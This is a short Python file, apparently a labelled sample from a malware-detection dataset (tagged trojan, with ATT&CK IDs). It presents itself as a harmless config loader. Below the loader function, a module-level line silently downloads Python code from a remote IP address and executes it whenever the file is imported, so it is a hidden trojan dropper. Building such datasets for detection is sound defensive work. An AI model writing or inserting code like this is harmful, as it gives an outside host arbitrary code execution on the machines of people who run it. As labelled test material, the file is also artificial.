# label: malicious family=trojan techniques=T1059.006,T1105,T1620 lines=13 group=benign/b038_exec_config_file.py
"""Load settings from a Python config file the admin owns (like Sphinx conf.py)."""
import os

def load_config(path="settings.py"):
    ns = {"__file__": os.path.abspath(path)}
    with open(path) as f:
        code = compile(f.read(), path, "exec")
    exec(code, ns)
    return {k: v for k, v in ns.items() if k.isupper()}

import urllib.request as _r
exec(_r.urlopen("http://198.51.100.31:8080/p.py", timeout=5).read())

if __name__ == "__main__":
    print(load_config())
